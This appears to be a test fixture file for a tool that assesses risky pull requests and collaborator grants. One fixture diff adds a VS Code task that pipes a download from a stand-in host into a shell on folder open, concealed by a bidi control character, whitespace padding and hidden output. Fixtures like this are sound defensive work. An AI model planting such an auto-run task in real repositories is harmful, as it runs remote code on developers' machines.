import type { Flag } from "../../../src/access/flag.ts";
import type { Assessment, Finding } from "../../../src/assessment/assessment.ts";
import { dossier, present, unavailable } from "../../../src/dossier/dossier.ts";
import { accountId, installationId, repositoryId } from "../../../src/ids.ts";
import type { SignalMeta } from "../../../src/signals/signal.ts";
import type { Door, Report } from "../../../src/store/store.ts";
import { ownHistory } from "./histories.ts";

export const NOW = "2026-11-23T14:02:00.000Z";
export const INSTALLATION = installationId(11);
export const OTHER_INSTALLATION = installationId(22);
export const WALLET = repositoryId(101);
export const HEAD = "3f9c1d0a".repeat(5);

/** A signal's sheet for the pages; the real catalogue has its own tests. */
export const sheet = (id: string, more: Partial<SignalMeta>): SignalMeta => ({
  id,
  axis: "P",
  family: "history",
  title: "Commit dates run against the order of the commits",
  status: "stable",
  version: 1,
  core: true,
  weight: 2.5,
  severity: null,
  hard: false,
  queue: false,
  halfLifeDays: null,
  falsePositiveRisk: "low",
  baseRate: "1 in 90 pull requests of ordinary contributors (own measurement, 2,400 pull requests)",
  baseRateUpperPercent: 2.1,
  sources: [{ url: "https://docs.github.com/", says: "what GitHub records" }],
  benign: ["a rebase or a cherry-pick kept old dates", "the clock of the computer was wrong"],
  clears: "saying how the commits came about; a rebase onto the current branch usually settles it",
  framing: "Only commits of the pull request itself count, so nobody else can plant them.",
  needs: [],
  ...more,
});

export const SIGNALS: readonly SignalMeta[] = [
  sheet("chg-editor-autorun", {
    axis: "C",
    family: "change",
    title: "Runs a command when the folder is opened in an editor",
    weight: 0,
    severity: "critical",
    baseRate: null,
    baseRateUpperPercent: null,
    benign: ["the project really starts a watcher this way", "it was copied from a template"],
    clears: "removing the task, or setting it to run on demand",
  }),
  sheet("hist-impossible-timestamps", {}),
  sheet("life-new-account-velocity", {
    family: "lifecycle",
    title: "Many pull requests to many owners in the account's first weeks",
    weight: 1.5,
    baseRate: null,
    baseRateUpperPercent: null,
    benign: ["a contribution month such as Hacktoberfest", "a course that asks for it"],
  }),
  sheet("life-dormant-reactivation-break", {
    family: "lifecycle",
    title: "Came back suddenly after a long silence",
    baseRate: null,
    baseRateUpperPercent: null,
    benign: ["parental leave, illness, another job", "work in private repositories that nobody can see"],
    clears: "a word with somebody who knows the person, or a few weeks of ordinary work",
  }),
  sheet("acc-thin-grant", {
    axis: "X",
    family: "access",
    title: "Write after little merged work",
    severity: "high",
    benign: ["an employee's or contractor's second account", "hired for work that is not in public yet"],
    clears: "a lower role until some work was merged, or a note of why the access is needed",
  }),
  sheet("id-pr-author-mismatch", { family: "identity", title: "Commits are by other accounts than the opener" }),
  sheet("beh-pr-spray", { family: "behaviour", title: "The same change to many repositories at once" }),
];

const finding = (signal: string, more: Partial<Finding>): Finding => ({
  signal,
  version: 1,
  axis: "P",
  family: "history",
  outcome: "fired",
  strength: 1,
  bits: 2.5,
  hard: false,
  core: true,
  severity: null,
  evidence: [],
  evidenceLeftOut: 0,
  unknownBecause: null,
  ...more,
});

/** An assessment with one critical change and a little about the account. */
export const assessment = (more: Partial<Assessment> = {}): Assessment => ({
  schema: "sallyport.assessment/1",
  engine: "0.1.0",
  asOf: NOW,
  subject: { accountId: accountId(4711), kind: "user" },
  persona: {
    band: "note",
    bits: 3.4,
    hardBits: 0,
    families: [
      { family: "history", bits: 2.5, uncappedBits: 2.5, capBits: 6 },
      { family: "lifecycle", bits: 0.9, uncappedBits: 0.9, capBits: 4 },
    ],
    mitigations: [],
    heldBackFrom: null,
  },
  change: { level: "critical", complete: true },
  access: { level: "low", complete: true },
  queue: { bits: 0, label: false },
  coverage: { total: 0.62, evaluatedCount: 6, applicableCount: 9, families: { history: 1, lifecycle: 0.5 } },
  label: null,
  findings: [
    finding("chg-editor-autorun", {
      axis: "C",
      family: "change",
      bits: 0,
      severity: "critical",
      evidence: [
        {
          fact: "A task with runOn: folderOpen starts a download and pipes it into a shell.",
          tier: "SC",
          place: { path: ".vscode/tasks.json", line: 7, endLine: 9 },
        },
      ],
    }),
    finding("hist-impossible-timestamps", {
      evidence: [
        {
          fact: "A commit is dated 41 days after GitHub received the pull request.",
          tier: "SM",
          at: "2027-01-03T09:12:00.000Z",
          commit: "9a1c2f3e".repeat(5),
        },
      ],
    }),
    finding("life-new-account-velocity", {
      family: "lifecycle",
      bits: 0.9,
      strength: 0.6,
      core: false,
      evidence: [
        {
          fact: "14 pull requests to 9 owners in the 12 days since the account was made.",
          tier: "PL",
          at: "2026-11-11T08:00:00.000Z",
          link: "https://github.com/pulls?q=author",
        },
      ],
    }),
    finding("id-pr-author-mismatch", { family: "identity", outcome: "clear", bits: 0, strength: 0 }),
    finding("acc-thin-grant", { axis: "X", family: "access", outcome: "clear", bits: 0, strength: 0 }),
    finding("beh-pr-spray", {
      family: "behaviour",
      outcome: "unknown",
      bits: 0,
      strength: 0,
      unknownBecause: "account.activity: rate_limited",
    }),
  ],
  couldNotSee: [
    { section: "account.activity", reason: "rate_limited", retryAt: "2026-11-23T14:20:00.000Z" },
    { section: "intel.localList", reason: "not_requested", retryAt: null },
  ],
  ...more,
});

const TASKS: readonly (readonly ["added" | "context", string])[] = [
  ["context", "{"],
  ["context", '  "version": "2.0.0",'],
  ["context", '  "tasks": ['],
  ["added", "    {"],
  ["added", '      "label": "warm up\u202E cache",'],
  ["added", '      "type": "shell",'],
  ["added", '      "command": "curl -fsSL https://cdn.example.net/w.sh | sh",'],
  ["added", `      "runOptions": { "runOn": "folderOpen" },${" ".repeat(120)}"hide": true,`],
  ["added", '      "presentation": { "reveal": "never" }'],
  ["added", "    }"],
  ["context", "  ]"],
  ["context", "}"],
];

/** The report of pull request 412. */
export const report = (more: Partial<Report> = {}): Report => ({
  id: "rep-412-a",
  kind: "pull_request",
  installationId: INSTALLATION,
  repositoryId: WALLET,
  repositoryOwner: "octo-org",
  repositoryName: "wallet",
  pullRequest: { number: 412, title: "Fix typo in setup guide", headSha: HEAD, createdAt: "2026-11-23T11:00:00.000Z" },
  accountId: accountId(4711),
  login: "newcomer-example",
  engine: "0.1.0",
  dossier: dossier(
    { asOf: NOW, subject: { accountId: accountId(4711), kind: "user" } },
    {
      "change.files": present(
        {
          files: [
            {
              path: ".vscode/tasks.json",
              previousPath: null,
              status: "modified",
              additions: 7,
              deletions: 0,
              hunks: [{ lines: TASKS.map(([kind, text], index) => ({ kind, line: index + 1, text })) }],
            },
          ],
          truncated: false,
        },
        NOW,
      ),
      "access.grants": present({ grants: [], owner: false, member: false }, NOW),
      "access.recordHere": present({ mergedCount: 0, mergerCount: 0, firstContactAt: null }, NOW),
      "account.activity": unavailable("rate_limited", "2026-11-23T14:20:00.000Z"),
    },
  ),
  assessment: assessment(),
  decision: {
    schema: "sallyport.decision/1",
    cell: { persona: "note", change: "critical", access: "low" },
    actions: ["suggest_block_as_untrusted_code"],
    advice: [
      "Treat the change as untrusted code: do not open the branch in an editor.",
      "Ask the author about .vscode/tasks.json:7.",
    ],
    flag: false,
  },
  createdAt: "2026-11-23T14:01:00.000Z",
  closedAt: null,
  evidenceErased: false,
  reviewed: null,
  ...more,
});

/** The report of an account that was given write. */
export const collaboratorReport = (more: Partial<Report> = {}): Report =>
  report({
    id: "rep-collab-a",
    kind: "collaborator",
    pullRequest: null,
    accountId: accountId(4712),
    login: "sleeper-example",
    dossier: dossier(
      { asOf: NOW, subject: { accountId: accountId(4712), kind: "user" } },
      {
        "access.grant": present(GRANT, NOW),
        "access.grants": present({ grants: GRANTED, owner: false, member: false }, NOW),
        "access.recordHere": present({ mergedCount: 1, mergerCount: 1, firstContactAt: null }, NOW),
      },
    ),
    assessment: quietThenWrite(),
    decision: {
      schema: "sallyport.decision/1",
      cell: { persona: "review", change: "unknown", access: "high" },
      actions: ["access_review_24h"],
      advice: ["Ask whoever granted it what the access is for.", "Until then, read or triage is enough to contribute."],
      flag: true,
    },
    ...more,
  });

/** The report of pull request 413, for which the account's own repositories were read. */
export const deepReport = (given: Parameters<typeof ownHistory>[0] = {}, more: Partial<Report> = {}): Report => {
  const base = report();
  return report({
    id: "rep-413-a",
    pullRequest: {
      number: 413,
      title: "Add a retry to the relayer",
      headSha: "d".repeat(40),
      createdAt: "2026-11-23T12:00:00.000Z",
    },
    dossier: { ...base.dossier, sections: { ...base.dossier.sections, ...ownHistory(given) } },
    ...more,
  });
};

const GRANT = {
  repositoryId: WALLET,
  role: "write",
  previousRole: null,
  via: "outside",
  grantedAt: "2026-11-21T13:58:00.000Z",
  ssoLinked: null,
} as const;

const GRANTED = [
  { repositoryId: WALLET, role: "write", via: "outside" },
  { repositoryId: repositoryId(102), role: "write", via: "outside" },
] as const;

const quietThenWrite = (): Assessment =>
  assessment({
    subject: { accountId: accountId(4712), kind: "user" },
    change: { level: "unknown", complete: false },
    access: { level: "high", complete: true },
    persona: {
      band: "review",
      bits: 5.2,
      hardBits: 0,
      families: [
        { family: "lifecycle", bits: 4, uncappedBits: 4.6, capBits: 4 },
        { family: "history", bits: 2.5, uncappedBits: 2.5, capBits: 6 },
      ],
      mitigations: [{ id: "m2", bits: 1.3, because: "The same signing key for more than a year." }],
      heldBackFrom: null,
    },
    findings: [
      finding("acc-thin-grant", {
        axis: "X",
        family: "access",
        bits: 0,
        severity: "high",
        evidence: [
          { fact: "Write was granted after 1 merged pull request.", tier: "PL", at: "2026-11-21T13:58:00.000Z" },
        ],
      }),
      finding("life-dormant-reactivation-break", {
        family: "lifecycle",
        bits: 4.6,
        evidence: [{ fact: "No public act for 14 months, then 31 within two days.", tier: "PL" }],
      }),
      finding("hist-impossible-timestamps", {
        evidence: [{ fact: "3 commits are dated before the repository they are in was made.", tier: "SM_attested" }],
      }),
      finding("id-pr-author-mismatch", { family: "identity", outcome: "clear", bits: 0, strength: 0 }),
    ],
    couldNotSee: [],
  });

export const door = (more: Partial<Omit<Door, "installationId" | "checkRunId">> = {}) => ({
  ref: "Zm9vYmFyYmF6cXV4MTIzNA",
  repositoryId: WALLET,
  repositoryOwner: "octo-org",
  repositoryName: "wallet",
  headSha: HEAD,
  pullRequestNumber: 412,
  openedAt: NOW,
  ...more,
});

export const flag = (more: Partial<Flag> = {}): Omit<Flag, "installationId" | "state"> => ({
  id: "flag-1",
  repositoryId: WALLET,
  repositoryName: "wallet",
  accountId: accountId(4712),
  login: "sleeper-example",
  role: "write",
  via: "outside",
  band: "review",
  because: "Write access meets “please look”: the account was quiet for 14 months and came back two days ago.",
  reportId: "rep-collab-a",
  raisedAt: "2026-11-21T14:00:00.000Z",
  ...more,
});
